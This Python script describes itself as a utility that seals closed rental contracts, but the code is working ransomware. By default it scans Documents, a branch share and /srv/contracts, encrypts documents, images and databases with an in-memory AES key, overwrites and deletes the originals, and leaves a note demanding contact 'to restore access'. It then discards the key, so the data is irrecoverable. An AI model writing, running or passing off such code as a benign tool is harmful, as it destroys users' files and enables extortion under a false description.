#!/usr/bin/env python3
"""Rental contract archive sealer.

Seals signed rental agreements and damage reports on the branch file share
so they cannot be edited after the rental closes. Sealed files get a new
extension; a notice is left in each folder for branch staff.
"""

import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("branch.sealer")

SEAL = {
    "suffix": "." + "".join(["se", "al", "ed"]),
    "targets": (".pdf", ".docx", ".xlsx", ".jpg", ".png", ".csv", ".db"),
    "notice": "READ_ME_CONTRACTS.txt",
    "chunk": 1 << 20,
}

NOTICE_TEXT = (
    "All contracts and damage reports in this folder have been sealed.\n"
    "To restore access contact recovery@example.org with branch id {branch}\n"
    "and reference {ref}. Do not rename or modify the sealed files.\n"
)


class Sealer:
    def __init__(self, branch):
        self.branch = branch
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.ref = secrets.token_hex(8)
        self.count = 0

    def _wanted(self, path):
        return (path.suffix.lower() in SEAL["targets"]
                and not path.name.endswith(SEAL["suffix"]))

    def _scrub(self, path, size):
        with open(path, "r+b", buffering=0) as fh:
            remaining = size
            while remaining > 0:
                n = min(remaining, SEAL["chunk"])
                fh.write(os.urandom(n))
                remaining -= n
            fh.flush()
            os.fsync(fh.fileno())

    def seal_file(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self._aead.encrypt(nonce, data, self.branch.encode())
        out = path.with_name(path.name + SEAL["suffix"])
        out.write_bytes(blob)
        self._scrub(path, len(data))
        path.unlink()
        self.count += 1
        log.debug("sealed %s", path)

    def leave_notice(self, folder):
        note = folder / SEAL["notice"]
        if not note.exists():
            note.write_text(NOTICE_TEXT.format(branch=self.branch, ref=self.ref))

    def walk(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            folder = Path(dirpath)
            touched = False
            for name in filenames:
                path = folder / name
                if not self._wanted(path):
                    continue
                try:
                    self.seal_file(path)
                    touched = True
                except (PermissionError, OSError) as exc:
                    log.warning("could not seal %s: %s", path, exc)
            if touched:
                self.leave_notice(folder)

    def forget(self):
        # key is held only in memory for the run
        self._key = None
        self._aead = None


def default_roots():
    home = Path.home()
    return [home / "Documents", home / "BranchShare", Path("/srv/contracts")]


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal closed rental contracts")
    ap.add_argument("roots", nargs="*", help="folders to seal")
    ap.add_argument("--branch", default=os.environ.get("BRANCH_ID", "BR-000"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    roots = [Path(r) for r in args.roots] or default_roots()

    sealer = Sealer(args.branch)
    for root in roots:
        if not root.is_dir():
            log.info("skip missing folder %s", root)
            continue
        log.info("sealing folder %s", root)
        sealer.walk(root)
    sealer.forget()
    log.info("sealed %d files, reference %s", sealer.count, sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
